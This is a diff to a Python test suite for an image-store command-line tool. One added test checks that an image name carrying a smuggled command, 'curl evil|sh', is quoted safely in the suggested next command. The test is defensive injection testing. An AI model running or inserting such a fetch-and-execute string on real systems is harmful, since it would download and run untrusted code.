@@ -29,7 +29,7 @@ def base(store: Store) -> StoredImage:
 # --- list
 
 
-def test_a_list_of_nothing_is_a_line_of_headers(run: Run) -> None:
+def test_a_list_of_nothing_is_a_line_of_headers(run: Run, store: Store) -> None:
     ran = run("list")
     assert (ran.code, ran.err) == (0, "")
     assert ran.out.split() == ["ID", "NAME", "VERSION", "OS", "ARCH", "SIZE", "IMPORTED", "USED"]
@@ -70,6 +70,11 @@ def test_list_of_several_reports_each_that_is_not_there(run: Run, app: StoredIma
     assert ran.code == 3
     assert [each["name"] for each in ran.document] == ["example.com/app"]
     assert [error["kind"] for error in ran.errors] == ["ImageNotFound", "InvalidName", "ImageNotFound"]
+
+
+def test_what_to_do_next_can_be_pasted_whatever_the_name_says(run: Run) -> None:
+    ran = run("--json", "list", "example.com/app:1;curl evil|sh")
+    assert ran.error["next"] == "acistore fetch 'example.com/app:1;curl evil|sh'"
 
 
 def test_format_prints_exact_values(run: Run, app: StoredImage) -> None:
@@ -212,7 +217,7 @@ def test_a_beginning_that_fits_several_images_lists_them(run: Run, store: Store)
     assert set(error["facts"]) == {str(each.id) for each in images if str(each.id).startswith(shared)}
 
 
-def test_an_image_that_is_not_there_is_not_found(run: Run) -> None:
+def test_an_image_that_is_not_there_is_not_found(run: Run, store: Store) -> None:
     ran = run("show", "example.com/app")
     assert ran.code == 3
     assert ran.err == (
